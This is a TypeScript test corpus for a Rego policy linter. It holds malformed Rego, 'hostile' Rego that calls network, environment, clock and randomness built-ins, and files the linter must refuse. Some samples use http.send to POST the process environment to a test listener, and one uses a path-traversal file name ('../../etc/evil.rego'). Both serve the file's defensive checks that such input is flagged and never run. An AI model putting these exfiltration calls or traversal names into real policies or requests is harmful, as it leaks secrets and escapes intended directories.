/**
 * Rego for `pac lint` and POST /v1/lint. Invalid Rego is what the linter is for: its answer is a
 * finding of severity error at file:line (exit code 3, as every command reports findings; 200 with
 * the finding over the API). Files that are not Rego text at all (binary, not UTF-8, too big, a
 * bad name) are refused (exit code 2, 4xx). Hostile Rego — network, environment, clock and
 * randomness built-ins — is flagged and never evaluated: a loopback listener it points at gets
 * no connection.
 */
import { fileLine } from './cases-manifests';
import type { BadInputCase, RunContext, Verdict } from './types';

const INVALID: [string, string, string, number][] = [
  ['no-package', 'rules without a package', 'deny contains msg if {\n  msg := "x"\n}\n', 1],
  ['unclosed-brace', 'an unclosed brace (found at the end of the file)', 'package x\n\ndeny contains msg if {\n  msg := "x"\n', 5],
  ['bad-operator', 'an operator Rego does not have', 'package x\n\ndeny contains msg if {\n  input.a === 1\n  msg := "x"\n}\n', 4],
  ['v0-syntax', 'Rego v0 syntax (no if/contains)', 'package x\n\ndeny[msg] {\n  msg := "x"\n}\n', 3],
  [
    'unknown-builtin',
    'a call of a built-in that does not exist',
    'package x\n\ndeny contains msg if {\n  foo.bar(input)\n  msg := "x"\n}\n',
    4,
  ],
  ['wrong-arity', 'a built-in with too few arguments', 'package x\n\ndeny contains msg if {\n  startswith(input.a)\n  msg := "x"\n}\n', 4],
  ['unsafe-var', 'a variable that is never bound', 'package x\n\ndeny contains msg if {\n  msg := y\n}\n', 4],
  ['recursion', 'a rule that depends on itself', 'package x\n\na if a\n\ndeny contains "x" if a\n', 3],
  ['empty', 'an empty file (the whole file: line 0)', '', 0],
  ['comments-only', 'a file of comments only (the whole file: line 0)', '# nothing\n# here\n', 0],
  ['unterminated-string', 'an unterminated string', 'package x\n\ndeny contains msg if {\n  msg := "x\n}\n', 4],
  ['bad-import', 'an import of an unknown root', 'package x\n\nimport nothing.here\n\ndeny contains "x" if input.a\n', 3],
  [
    'type-error',
    'a comparison of a number with an object in a call',
    'package x\n\ndeny contains msg if {\n  x := 1 + {"a": 1}\n  msg := sprintf("%v", [x])\n}\n',
    4,
  ],
  ['deny-boolean', 'deny as a boolean, without a message', 'package x\n\ndeny if input.kind == "Pod"\n', 3],
  ['unknown-kind', 'a rule for a kind Kubernetes does not have', 'package x\n\ndeny contains "x" if input.kind == "Podd"\n', 3],
  ['crlf', 'Windows line endings with a syntax error', 'package x\r\n\r\ndeny contains msg if {\r\n  msg := \r\n}\r\n', 5],
  [
    'deep-expression',
    'an expression 600 parentheses deep, one left open',
    `package x\n\ndeny contains "x" if {\n  ${'('.repeat(600)}1${')'.repeat(599)} == 2\n}\n`,
    5,
  ],
  [
    'duplicate-function',
    'a function defined twice with different arity',
    'package x\n\nf(a) := a\nf(a, b) := a\n\ndeny contains "x" if f(1) == 2\n',
    3,
  ],
];

/** Built-ins that reach the network, the environment, the clock or chance: flagged, never run. */
const HOSTILE: [string, string, string, number][] = [
  ['http-send', 'http.send to a listener', 'http.send({"method": "GET", "url": "{url}/leak"})', 4],
  ['http-send-env', 'the environment sent by http.send', 'http.send({"method": "POST", "url": "{url}/env", "body": opa.runtime().env})', 4],
  ['opa-runtime', 'opa.runtime (the environment of the process)', 'opa.runtime().env.HOME', 4],
  ['net-lookup', 'net.lookup_ip_addr (DNS)', 'net.lookup_ip_addr("example.com")', 4],
  ['time-now', 'time.now_ns (the clock)', 'time.now_ns()', 4],
  ['rand', 'rand.intn (chance)', 'rand.intn("x", 10)', 4],
  ['uuid', 'uuid.rfc4122 (random ids)', 'uuid.rfc4122("x")', 4],
  ['jwks-url', 'io.jwt.decode_verify with a remote key set', 'io.jwt.decode_verify("a.b.c", {"jwks_url": "{url}/jwks"})', 4],
];

function invalidCases(): BadInputCase[] {
  return INVALID.map(([name, what, rego, line]) => ({
    id: `invalid-rego/${name}`,
    category: 'invalid-rego',
    kind: 'malformed',
    what: `${what}: a finding of severity error at its line`,
    cli: { file: { name: `${name}.rego`, content: rego }, args: (f) => ['lint', f], exit: [3], shows: fileLine(`${name}.rego`, line) },
    api: {
      call: { method: 'POST', path: '/v1/lint', token: 'reader', body: { files: [{ name: 'policy.rego', content: rego || ' ' }] } },
      status: [200],
      shows: new RegExp(`"severity":"error","file":"policy\\.rego","line":${line}\\b`),
    },
  }));
}

/** The hostile call inside a deny rule (line 4), pointed at the listener. */
const hostileRego = (call: string, url: string) =>
  `package x\n\ndeny contains msg if {\n  r := ${call.replaceAll('{url}', url)}\n  msg := sprintf("%v", [r])\n}\n`;

function hostileCases(): BadInputCase[] {
  return HOSTILE.map(([name, what, call, line]) => ({
    id: `hostile-rego/${name}`,
    category: 'hostile-rego',
    kind: 'hostile',
    what: `${what}: flagged at its line, never evaluated`,
    scenario: async (ctx: RunContext): Promise<Verdict> => {
      const before = ctx.listener.hits();
      const rego = hostileRego(call, ctx.listener.url);
      const cli = await ctx.cli({ args: ['lint', ctx.file(`${name}.rego`, rego)] });
      if (cli.exit !== 3) return `pac lint exited ${cli.exit}, expected 3: ${cli.stderr.slice(0, 200)}`;
      if (!new RegExp(`${name}\\.rego:${line}\\b`).test(cli.stdout + cli.stderr)) return `pac lint did not name ${name}.rego:${line}`;
      const api = await ctx.api({
        method: 'POST',
        path: '/v1/lint',
        token: 'reader',
        body: { files: [{ name: 'policy.rego', content: rego }] },
      });
      if (api.status !== 200) return `POST /v1/lint answered ${api.status}`;
      const finding = api.json.findings.find((f: { severity: string; line: number }) => f.severity === 'error' && f.line === line);
      if (!finding) return `no error finding at policy.rego:${line}: ${api.text.slice(0, 300)}`;
      if (ctx.listener.hits() !== before) return 'the listener was contacted: the Rego was evaluated';
      return undefined;
    },
  }));
}

function refusedFiles(): BadInputCase[] {
  return [
    {
      id: 'invalid-rego/binary-file',
      category: 'invalid-rego',
      kind: 'malformed',
      what: 'a binary file named .rego',
      // refused as input (exit 2) once pac lint reads through lib/read-input, else an opa-check finding (exit 3) — both at file:line
      cli: {
        file: { name: 'blob.rego', content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3, 0xff, 0xfe]) },
        args: (f) => ['lint', f],
        exit: [2, 3],
        shows: fileLine('blob.rego', 1),
      },
      api: {
        call: {
          method: 'POST',
          path: '/v1/lint',
          token: 'reader',
          body: { files: [{ name: 'policy.rego', content: 'package x\u0000\u0001' }] },
        },
        status: [400],
        shows: /body\.files\.0\.content|body\.files\[0\]\.content/,
      },
    },
    {
      id: 'invalid-rego/not-utf8',
      category: 'invalid-rego',
      kind: 'malformed',
      what: 'Rego with a Latin-1 byte',
      cli: {
        file: { name: 'latin1.rego', content: Buffer.from([...Buffer.from('package x\n# caf'), 0xe9, 0x0a]) },
        args: (f) => ['lint', f],
        exit: [2, 3],
        shows: fileLine('latin1.rego', 2),
      },
    },
    {
      id: 'invalid-rego/path-name',
      category: 'invalid-rego',
      kind: 'malformed',
      what: 'a file name that leaves the lint directory',
      api: {
        call: {
          method: 'POST',
          path: '/v1/lint',
          token: 'reader',
          body: { files: [{ name: '../../etc/evil.rego', content: 'package x' }] },
        },
        status: [400],
        shows: /body\.files/,
      },
    },
    {
      id: 'invalid-rego/too-many-files',
      category: 'invalid-rego',
      kind: 'malformed',
      what: '51 files in one lint request',
      api: {
        call: {
          method: 'POST',
          path: '/v1/lint',
          token: 'reader',
          body: { files: Array.from({ length: 51 }, (_, i) => ({ name: `p${i}.rego`, content: 'package x' })) },
        },
        status: [400],
        shows: /body\.files/,
      },
    },
  ];
}

export function regoCorpus(): BadInputCase[] {
  return [...invalidCases(), ...hostileCases(), ...refusedFiles()];
}
